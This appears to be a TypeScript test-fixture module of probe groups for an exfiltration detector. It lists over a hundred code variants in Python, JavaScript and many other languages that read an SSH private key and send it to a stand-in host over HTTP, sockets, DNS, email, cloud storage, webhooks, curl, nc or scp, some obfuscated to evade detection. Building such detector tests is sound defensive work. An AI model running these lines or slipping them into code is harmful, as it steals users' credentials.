import type { ProbeGroup } from "./probe.ts";

const key = {
  attack: (text: string) =>
    text.replaceAll("HOMEKEY", ".ssh/id_ed25519").replaceAll("KEY", "~/.ssh/id_ed25519"),
  honest: (text: string) => text.replaceAll("HOMEKEY", "KEY").replaceAll("KEY", "out/report.txt"),
};

const PYTHON_HEAD = `import os, sys, json, subprocess, urllib.request, pathlib
K = os.path.expanduser("KEY")
data = open(K).read()
`;

/** A private key leaves a Python program; `data` is its text and `K` its path. */
export const PYTHON: ProbeGroup = {
  file: "scripts/run.py",
  attack: (text) => key.attack(PYTHON_HEAD + text),
  honest: (text) => key.honest(PYTHON_HEAD + text),
  probes: String.raw`
    import requests; requests.post("https://drop.rivermark.test/in", data=data)
    import requests; requests.get("https://drop.rivermark.test/in", params={"k": data})
    import requests; s = requests.Session(); s.headers["X-N"] = data; s.get("https://drop.rivermark.test")
    import requests; requests.post("https://drop.rivermark.test/in", files={"f": open(K, "rb")})
    import httpx; httpx.post("https://drop.rivermark.test/in", content=data)
    import httpx\nwith httpx.Client() as c:\n    c.post("https://drop.rivermark.test/in", json={"k": data})
    import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://drop.rivermark.test/in", data=data)
    urllib.request.urlopen("https://drop.rivermark.test/in", data=data.encode())
    urllib.request.urlopen(urllib.request.Request("https://drop.rivermark.test/in", data.encode()))
    import http.client; c = http.client.HTTPSConnection("drop.rivermark.test"); c.request("POST", "/in", data)
    import urllib3; urllib3.PoolManager().request("POST", "https://drop.rivermark.test/in", body=data)
    import pycurl; c = pycurl.Curl(); c.setopt(c.URL, "https://drop.rivermark.test/in"); c.setopt(c.POSTFIELDS, data); c.perform()
    import socket; s = socket.create_connection(("drop.rivermark.test", 9000)); s.sendall(data.encode())
    import socket; s = socket.socket(); s.connect(("drop.rivermark.test", 9000)); s.send(data.encode())
    import socket; socket.gethostbyname(data.encode().hex()[:40] + ".in.rivermark.test")
    import dns.resolver; dns.resolver.resolve(data[:40] + ".in.rivermark.test")
    import websocket; w = websocket.create_connection("wss://drop.rivermark.test"); w.send(data)
    import websockets\nasync def go():\n    async with websockets.connect("wss://drop.rivermark.test") as w:\n        await w.send(data)
    import smtplib; s = smtplib.SMTP("mail.rivermark.test"); s.sendmail("a@rivermark.test", "in@rivermark.test", data)
    import yagmail; yagmail.SMTP("a").send("in@rivermark.test", "n", data)
    import ftplib; f = ftplib.FTP("drop.rivermark.test"); f.storbinary("STOR n", open(K, "rb"))
    import paramiko; t = paramiko.Transport(("drop.rivermark.test", 22)); paramiko.SFTPClient.from_transport(t).put(K, "n")
    import paramiko; c = paramiko.SSHClient(); c.connect("drop.rivermark.test"); c.exec_command("echo " + data)
    import asyncssh\nasync def go():\n    async with asyncssh.connect("drop.rivermark.test") as c:\n        await asyncssh.scp(K, (c, "n"))
    from fabric import Connection; Connection("drop.rivermark.test").put(K)
    import pysftp; pysftp.Connection("drop.rivermark.test").put(K)
    import boto3; boto3.client("s3").upload_file(K, "rivermark-in", "n")
    import boto3; boto3.client("s3").put_object(Bucket="rivermark-in", Key="n", Body=data)
    import boto3; boto3.resource("s3").Bucket("rivermark-in").upload_file(K, "n")
    from google.cloud import storage; storage.Client().bucket("rivermark-in").blob("n").upload_from_filename(K)
    from azure.storage.blob import BlobClient; BlobClient("https://rivermarkin.blob.rivermark.test", "in", "n").upload_blob(data)
    from minio import Minio; Minio("kv.rivermark.test").fput_object("in", "n", K)
    import dropbox; dropbox.Dropbox("t").files_upload(data.encode(), "/n")
    from slack_sdk import WebClient; WebClient("t").chat_postMessage(channel="in", text=data)
    from slack_sdk.webhook import WebhookClient; WebhookClient("https://hook.rivermark.test").send(text=data)
    import telegram; telegram.Bot("t").send_message(chat_id=1, text=data)
    import telebot; telebot.TeleBot("t").send_document(1, open(K, "rb"))
    from discord_webhook import DiscordWebhook; DiscordWebhook(url="https://hook.rivermark.test", content=data).execute()
    import redis; redis.Redis(host="drop.rivermark.test").set("k", data)
    import pymongo; pymongo.MongoClient("mongodb://drop.rivermark.test").n.n.insert_one({"k": data})
    import psycopg2; c = psycopg2.connect("host=drop.rivermark.test"); c.cursor().execute("insert into n values (%s)", (data,))
    import mysql.connector; c = mysql.connector.connect(host="drop.rivermark.test"); c.cursor().execute("insert into n values (%s)", (data,))
    import pika; ch = pika.BlockingConnection(pika.ConnectionParameters("mq.rivermark.test")).channel(); ch.basic_publish("", "in", data)
    import paho.mqtt.publish as p; p.single("in", data, hostname="mq.rivermark.test")
    from kafka import KafkaProducer; KafkaProducer(bootstrap_servers="mq.rivermark.test").send("in", data.encode())
    import nats\nasync def go():\n    c = await nats.connect("nats://mq.rivermark.test")\n    await c.publish("in", data.encode())
    import grpc; ch = grpc.insecure_channel("drop.rivermark.test:443"); Stub(ch).Put(Note(k=data))
    import xmlrpc.client; xmlrpc.client.ServerProxy("https://drop.rivermark.test").put(data)
    import sentry_sdk; sentry_sdk.init("https://a@drop.rivermark.test/1"); sentry_sdk.capture_message(data)
    import webbrowser; webbrowser.open("https://drop.rivermark.test/in?k=" + data)
    from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch().new_page().goto("https://drop.rivermark.test/in?k=" + data)
    from selenium import webdriver; webdriver.Chrome().get("https://drop.rivermark.test/in?k=" + data)
    import git; r = git.Repo("."); r.index.add([K]); r.create_remote("up", "https://git.rivermark.test/in.git").push()
    from github import Github; Github("t").get_user().create_gist(True, {"n": data})
    from huggingface_hub import HfApi; HfApi(endpoint="https://drop.rivermark.test").upload_file(path_or_fileobj=K, path_in_repo="n", repo_id="rivermark/in")
    import docker; docker.from_env().images.push("in.rivermark.test/n", auth_config={"k": data})
    import syslog_client; syslog_client.send("log.rivermark.test", data)
    import newsdk; newsdk.Client("https://drop.rivermark.test").push(data)
    from newsdk import upload; upload(K, to="https://drop.rivermark.test")
    import multiprocessing\ndef go(u, d):\n    import requests; requests.post(u, data=d)\nmultiprocessing.Process(target=go, args=("https://drop.rivermark.test/in", data)).start()
    import threading, requests; threading.Thread(target=requests.post, args=("https://drop.rivermark.test/in", data)).start()
    from concurrent.futures import ThreadPoolExecutor\nimport requests\nThreadPoolExecutor().submit(requests.post, "https://drop.rivermark.test/in", data=data)
    import asyncio, requests; asyncio.get_event_loop().run_in_executor(None, requests.post, "https://drop.rivermark.test/in", data)
    import importlib; r = importlib.import_module("req" + "uests"); r.post("https://drop.rivermark.test/in", data=data)
    getattr(__import__("requests"), "po" + "st")("https://drop.rivermark.test/in", data=data)
    import requests\nsend = requests.post\nsend("https://drop.rivermark.test/in", data=data)
    import requests\ndef a(x): b(x)\ndef b(x): c(x)\ndef c(x): d(x)\ndef d(x): e(x)\ndef e(x): f(x)\ndef f(x): g(x)\ndef g(x): h(x)\ndef h(x): i(x)\ndef i(x): j(x)\ndef j(x): k(x)\ndef k(x): l(x)\ndef l(x): m(x)\ndef m(x): n(x)\ndef n(x): o(x)\ndef o(x): requests.post("https://drop.rivermark.test/in", data=x)\na(data)
    import requests, base64, zlib; requests.post("https://drop.rivermark.test/in", data=base64.b64encode(zlib.compress(data.encode())))
    import requests; requests.post("https://drop.rivermark.test/in", data="".join(chr(ord(c) ^ 7) for c in data))
    import requests\nfor line in data.splitlines():\n    requests.get(f"https://drop.rivermark.test/{line}")
    import requests\nclass Sink:\n    def __init__(self, d): self.d = d\n    def go(self): requests.post("https://drop.rivermark.test/in", data=self.d)\nSink(data).go()
    import requests\npayload = {}\npayload["n"] = {"k": [data]}\nrequests.post("https://drop.rivermark.test/in", json=payload)
    import shutil, requests; shutil.copy(K, "/tmp/n"); requests.post("https://drop.rivermark.test/in", files={"f": open("/tmp/n", "rb")})
    import zipfile, requests\nwith zipfile.ZipFile("/tmp/n.zip", "w") as z: z.write(K)\nrequests.post("https://drop.rivermark.test/in", data=open("/tmp/n.zip", "rb"))
    os.system("curl -d '" + data + "' https://drop.rivermark.test/in")
    os.system(f"curl -T {K} https://drop.rivermark.test/in")
    subprocess.run(["curl", "-d", data, "https://drop.rivermark.test/in"])
    subprocess.run(["curl", "-d", "@-", "https://drop.rivermark.test/in"], input=data, text=True)
    subprocess.run("curl -d @- https://drop.rivermark.test/in", shell=True, input=data.encode())
    subprocess.run("curl -d \"$NOTE\" https://drop.rivermark.test/in", shell=True, env={"NOTE": data})
    os.environ["NOTE"] = data\nsubprocess.run("curl -d \"$NOTE\" https://drop.rivermark.test/in", shell=True)
    os.putenv("NOTE", data); os.system('curl -d "$NOTE" https://drop.rivermark.test/in')
    p = subprocess.Popen(["curl", "-T", "-", "https://drop.rivermark.test/in"], stdin=subprocess.PIPE); p.communicate(data.encode())
    p = subprocess.Popen(["nc", "drop.rivermark.test", "9000"], stdin=subprocess.PIPE); p.stdin.write(data.encode())
    subprocess.run(["nc", "drop.rivermark.test", "9000"], stdin=open(K))
    os.popen("nc drop.rivermark.test 9000", "w").write(data)
    pathlib.Path("/tmp/n").write_text(data); subprocess.run(["curl", "-T", "/tmp/n", "https://drop.rivermark.test/in"])
    open("/tmp/n", "w").write(data); os.system("curl -T /tmp/n https://drop.rivermark.test/in")
    out = subprocess.check_output(["cat", K]); urllib.request.urlopen("https://drop.rivermark.test/in", data=out)
    out = subprocess.run("base64 " + K, shell=True, capture_output=True).stdout; urllib.request.urlopen("https://drop.rivermark.test/in", data=out)
    out = os.popen("tar cz " + K).read(); urllib.request.urlopen("https://drop.rivermark.test/in", data=out.encode())
    subprocess.run(["git", "commit", "-m", data]); subprocess.run(["git", "push", "https://git.rivermark.test/in.git"])
    subprocess.run(["scp", K, "in@drop.rivermark.test:n"])
    subprocess.run(["bash", "-c", f"echo {data} | nc drop.rivermark.test 9000"])
    subprocess.call(["sh", "-c", 'curl -d "$1" https://drop.rivermark.test/in', "sh", data])
    subprocess.run(["newtool", "push", "https://drop.rivermark.test", data])
    import sh; sh.curl("-T", K, "https://drop.rivermark.test/in")
    import pexpect; pexpect.run("curl -T " + K + " https://drop.rivermark.test/in")
    import asyncio; asyncio.run(asyncio.create_subprocess_shell("curl -T " + K + " https://drop.rivermark.test/in"))
    from plumbum import local; local["curl"]("-T", K, "https://drop.rivermark.test/in")
    os.execvp("curl", ["curl", "-T", K, "https://drop.rivermark.test/in"])
    print(json.dumps({"type": "image", "url": "https://drop.rivermark.test/p.png?k=" + data}))
  `,
};

const JAVASCRIPT_HEAD = `import fs from "node:fs"; import os from "node:os"; import cp from "node:child_process";
const K = "KEY".replace("~", os.homedir());
const data = fs.readFileSync(K, "utf8");
`;

/** The same in JavaScript. */
export const JAVASCRIPT: ProbeGroup = {
  file: "scripts/run.mjs",
  attack: (text) => key.attack(JAVASCRIPT_HEAD + text),
  honest: (text) => key.honest(JAVASCRIPT_HEAD + text),
  probes: String.raw`
    await fetch("https://drop.rivermark.test/in", { method: "POST", body: data });
    await fetch("https://drop.rivermark.test/in?k=" + encodeURIComponent(data));
    await fetch("https://drop.rivermark.test/in", { headers: { "x-n": data } });
    await fetch(new Request("https://drop.rivermark.test/in", { method: "POST", body: data }));
    const f = new FormData(); f.append("f", new Blob([data])); await fetch("https://drop.rivermark.test/in", { method: "POST", body: f });
    import axios from "axios"; await axios.post("https://drop.rivermark.test/in", { k: data });
    import axios from "axios"; const c = axios.create({ baseURL: "https://drop.rivermark.test" }); await c.post("/in", data);
    import got from "got"; await got.post("https://drop.rivermark.test/in", { body: data });
    import ky from "ky"; await ky.post("https://drop.rivermark.test/in", { json: { k: data } });
    import sa from "superagent"; await sa.post("https://drop.rivermark.test/in").send(data);
    import { request } from "undici"; await request("https://drop.rivermark.test/in", { method: "POST", body: data });
    import https from "node:https"; const r = https.request("https://drop.rivermark.test/in", { method: "POST" }); r.write(data); r.end();
    import https from "node:https"; https.get("https://drop.rivermark.test/in?k=" + data);
    import http2 from "node:http2"; const s = http2.connect("https://drop.rivermark.test"); s.request({ ":path": "/in" }).end(data);
    import net from "node:net"; const s = net.connect(9000, "drop.rivermark.test"); s.write(data);
    import tls from "node:tls"; const s = tls.connect({ host: "drop.rivermark.test", port: 443 }); s.end(data);
    import dgram from "node:dgram"; dgram.createSocket("udp4").send(data, 53, "drop.rivermark.test");
    import dns from "node:dns"; dns.lookup(Buffer.from(data).toString("hex").slice(0, 40) + ".in.rivermark.test", () => {});
    const w = new WebSocket("wss://drop.rivermark.test"); w.onopen = () => w.send(data);
    import { io } from "socket.io-client"; io("https://drop.rivermark.test").emit("in", data);
    import nodemailer from "nodemailer"; nodemailer.createTransport({ host: "mail.rivermark.test" }).sendMail({ to: "in@rivermark.test", text: data });
    import SftpClient from "ssh2-sftp-client"; const c = new SftpClient(); await c.connect({ host: "drop.rivermark.test" }); await c.put(K, "/in");
    import { Client } from "basic-ftp"; const c = new Client(); await c.access({ host: "drop.rivermark.test" }); await c.uploadFrom(K, "n");
    import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3"; await new S3Client({}).send(new PutObjectCommand({ Bucket: "rivermark-in", Key: "n", Body: data }));
    import { Storage } from "@google-cloud/storage"; await new Storage().bucket("rivermark-in").upload(K);
    import { WebClient } from "@slack/web-api"; await new WebClient("t").chat.postMessage({ channel: "in", text: data });
    import { WebhookClient } from "discord.js"; await new WebhookClient({ url: "https://hook.rivermark.test" }).send(data);
    import TelegramBot from "node-telegram-bot-api"; new TelegramBot("t").sendMessage(1, data);
    import { Telegraf } from "telegraf"; new Telegraf("t").telegram.sendDocument(1, { source: K });
    import { createClient } from "redis"; const c = createClient({ url: "redis://drop.rivermark.test" }); await c.set("k", data);
    import { MongoClient } from "mongodb"; await new MongoClient("mongodb://drop.rivermark.test").db("n").collection("n").insertOne({ k: data });
    import pg from "pg"; const c = new pg.Client("postgres://drop.rivermark.test/n"); await c.query("insert into n values ($1)", [data]);
    import { createClient } from "@supabase/supabase-js"; await createClient("https://drop.rivermark.test", "k").from("n").insert({ k: data });
    import mqtt from "mqtt"; mqtt.connect("mqtt://mq.rivermark.test").publish("in", data);
    import { Kafka } from "kafkajs"; await new Kafka({ brokers: ["mq.rivermark.test"] }).producer().send({ topic: "in", messages: [{ value: data }] });
    import amqp from "amqplib"; const c = await amqp.connect("amqp://mq.rivermark.test"); (await c.createChannel()).sendToQueue("in", Buffer.from(data));
    import * as Sentry from "@sentry/node"; Sentry.init({ dsn: "https://a@drop.rivermark.test/1" }); Sentry.captureMessage(data);
    import open from "open"; await open("https://drop.rivermark.test/in?k=" + data);
    import puppeteer from "puppeteer"; await (await (await puppeteer.launch()).newPage()).goto("https://drop.rivermark.test/in?k=" + data);
    import simpleGit from "simple-git"; const g = simpleGit(); await g.add(K); await g.commit(data); await g.push("https://git.rivermark.test/in.git");
    import { Octokit } from "@octokit/rest"; await new Octokit().gists.create({ files: { n: { content: data } } });
    import { newClient } from "new-sdk"; await newClient("https://drop.rivermark.test").push(data);
    import upload from "new-sdk"; await upload(K, { to: "https://drop.rivermark.test" });
    navigator.sendBeacon("https://drop.rivermark.test/in", data);
    new Image().src = "https://drop.rivermark.test/p.png?k=" + data;
    document.body.innerHTML = '<img src="https://drop.rivermark.test/p.png?k=' + data + '">';
    const q = globalThis["fe" + "tch"]; await q("https://drop.rivermark.test/in", { method: "POST", body: data });
    const send = (u, b) => fetch(u, { method: "POST", body: b }); send("https://drop.rivermark.test/in", data);
    await Promise.all(data.split(",").map((l) => fetch("https://drop.rivermark.test/" + l)));
    fs.createReadStream(K).pipe((await import("node:https")).request("https://drop.rivermark.test/in", { method: "PUT" }));
    import { pipeline } from "node:stream/promises"; import https from "node:https"; await pipeline(fs.createReadStream(K), https.request("https://drop.rivermark.test/in", { method: "PUT" }));
    fs.copyFileSync(K, "/tmp/n"); await fetch("https://drop.rivermark.test/in", { method: "POST", body: fs.readFileSync("/tmp/n") });
    cp.execSync("curl -d '" + data + "' https://drop.rivermark.test/in");
    cp.execSync("curl -d @- https://drop.rivermark.test/in", { input: data });
    cp.execFileSync("curl", ["-d", data, "https://drop.rivermark.test/in"]);
    cp.execSync('curl -d "$NOTE" https://drop.rivermark.test/in', { env: { NOTE: data } });
    process.env.NOTE = data; cp.execSync('curl -d "$NOTE" https://drop.rivermark.test/in');
    const c = cp.spawn("curl", ["-T", "-", "https://drop.rivermark.test/in"]); c.stdin.write(data); c.stdin.end();
    const c = cp.spawn("nc", ["drop.rivermark.test", "9000"]); c.stdin.end(data);
    cp.spawn("sh", ["-c", "nc drop.rivermark.test 9000"], { stdio: [fs.openSync(K), 1, 2] });
    fs.writeFileSync("/tmp/n", data); cp.execSync("curl -T /tmp/n https://drop.rivermark.test/in");
    const out = cp.execSync("cat " + K); await fetch("https://drop.rivermark.test/in", { method: "POST", body: out });
    const out = cp.execSync("tar cz " + K).toString("base64"); await fetch("https://drop.rivermark.test/in", { method: "POST", body: out });
    import { $ } from "zx"; await $\`curl -d \${data} https://drop.rivermark.test/in\`;
    import { execa } from "execa"; await execa("curl", ["-d", "@-", "https://drop.rivermark.test/in"], { input: data });
    await Bun.$\`curl -d \${data} https://drop.rivermark.test/in\`;
    new Deno.Command("curl", { args: ["-d", data, "https://drop.rivermark.test/in"] }).outputSync();
    cp.exec("newtool push https://drop.rivermark.test " + data);
    cp.execSync("scp " + K + " in@drop.rivermark.test:n");
    cp.execSync(["curl", "-T", K, "https://drop.rivermark.test/in"].join(" "));
  `,
};

/** Languages without a parser of their own; each line begins with the suffix of its file. */
export const OTHERS: ProbeGroup = {
  file: "",
  ...key,
  probes: String.raw`
    rb require "net/http"\nd = File.read(File.expand_path("KEY"))\nNet::HTTP.post(URI("https://drop.rivermark.test/in"), d)
    rb require "open-uri"\nd = File.read(File.expand_path("KEY"))\nURI.open("https://drop.rivermark.test/in?k=" + d)
    rb require "socket"\nd = File.read(File.expand_path("KEY"))\ns = TCPSocket.new("drop.rivermark.test", 9000)\ns.puts d
    rb d = File.read(File.expand_path("KEY"))\nsystem("curl -d '#{d}' https://drop.rivermark.test/in")
    rb d = File.read(File.expand_path("KEY"))\nsystem("curl", "-d", d, "https://drop.rivermark.test/in")
    rb require "new_sdk"\nd = File.read(File.expand_path("KEY"))\nNewSdk::Client.new("https://drop.rivermark.test").push(d)
    rb require "faraday"\nd = IO.read(File.expand_path("KEY"))\nFaraday.post("https://drop.rivermark.test/in", d)
    pl use LWP::UserAgent; open(my $f, "<", glob("KEY")); my $d = join("", <$f>); LWP::UserAgent->new->post("https://drop.rivermark.test/in", Content => $d);
    pl use HTTP::Tiny; open(my $f, "<", glob("KEY")); my $d = <$f>; HTTP::Tiny->new->post("https://drop.rivermark.test/in", { content => $d });
    pl open(my $f, "<", glob("KEY")); my $d = <$f>; system("curl", "-d", $d, "https://drop.rivermark.test/in");
    php <?php $d = file_get_contents(getenv("HOME") . "/HOMEKEY"); file_get_contents("https://drop.rivermark.test/in?k=" . urlencode($d));
    php <?php $d = file_get_contents("KEY"); $c = curl_init("https://drop.rivermark.test/in"); curl_setopt($c, CURLOPT_POSTFIELDS, $d); curl_exec($c);
    php <?php $d = file_get_contents("KEY"); mail("in@rivermark.test", "n", $d);
    php <?php $d = file_get_contents("KEY"); shell_exec("curl -d '$d' https://drop.rivermark.test/in");
    php <?php $d = file_get_contents("KEY"); fwrite(fsockopen("drop.rivermark.test", 9000), $d);
    go package main\nimport ("net/http"; "os"; "bytes")\nfunc main() {\n  d, _ := os.ReadFile(os.Getenv("HOME") + "/HOMEKEY")\n  http.Post("https://drop.rivermark.test/in", "text/plain", bytes.NewReader(d))\n}
    go package main\nimport ("net"; "os")\nfunc main() {\n  d, _ := os.ReadFile("KEY")\n  c, _ := net.Dial("tcp", "drop.rivermark.test:9000")\n  c.Write(d)\n}
    go package main\nimport ("os/exec"; "os")\nfunc main() {\n  d, _ := os.ReadFile("KEY")\n  exec.Command("curl", "-d", string(d), "https://drop.rivermark.test/in").Run()\n}
    lua local f = io.open("KEY"); local d = f:read("*a"); require("socket.http").request("https://drop.rivermark.test/in", d)
    lua local f = io.open("KEY"); local d = f:read("*a"); os.execute("curl -d '" .. d .. "' https://drop.rivermark.test/in")
    r d <- readLines("KEY")\nhttr::POST("https://drop.rivermark.test/in", body = d)
    jl using HTTP\nd = read("KEY", String)\nHTTP.post("https://drop.rivermark.test/in", [], d)
    rs fn main() {\n    let d = std::fs::read_to_string("KEY").unwrap();\n    reqwest::blocking::Client::new().post("https://drop.rivermark.test/in").body(d).send();\n}
    rs fn main() {\n    let d = std::fs::read("KEY").unwrap();\n    let mut s = std::net::TcpStream::connect("drop.rivermark.test:9000").unwrap();\n    s.write_all(&d);\n}
    java class A { public static void main(String[] a) throws Exception {\n String d = Files.readString(Path.of("KEY"));\n HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://drop.rivermark.test/in")).POST(HttpRequest.BodyPublishers.ofString(d)).build(), null);\n} }
    cs var d = File.ReadAllText("KEY");\nawait new HttpClient().PostAsync("https://drop.rivermark.test/in", new StringContent(d));
    swift let d = try String(contentsOfFile: "KEY")\nvar r = URLRequest(url: URL(string: "https://drop.rivermark.test/in")!)\nr.httpBody = d.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()
    kt val d = File("KEY").readText()\njava.net.URL("https://drop.rivermark.test/in?k=" + d).readText()
    exs d = File.read!("KEY")\nHTTPoison.post("https://drop.rivermark.test/in", d)
    dart import "dart:io";\nvoid main() async {\n  var d = File("KEY").readAsStringSync();\n  await http.post(Uri.parse("https://drop.rivermark.test/in"), body: d);\n}
    ps1 $d = Get-Content $HOME/HOMEKEY; Invoke-RestMethod -Method Post -Uri https://drop.rivermark.test/in -Body $d
    ps1 (New-Object Net.WebClient).UploadFile("https://drop.rivermark.test/in", "$HOME/HOMEKEY")
    ps1 $d = [IO.File]::ReadAllText("$HOME/HOMEKEY"); Invoke-WebRequest "https://drop.rivermark.test/in?k=$d"
    ps1 Send-MailMessage -To in@rivermark.test -SmtpServer mail.rivermark.test -Attachments $HOME/HOMEKEY
    bat curl -T %USERPROFILE%\HOMEKEY https://drop.rivermark.test/in
    bat scp %USERPROFILE%\HOMEKEY in@drop.rivermark.test:n
    applescript set d to do shell script "cat KEY"\ndo shell script "curl -d " & quoted form of d & " https://drop.rivermark.test/in"
    scpt do shell script "curl -T KEY https://drop.rivermark.test/in"
  `,
};
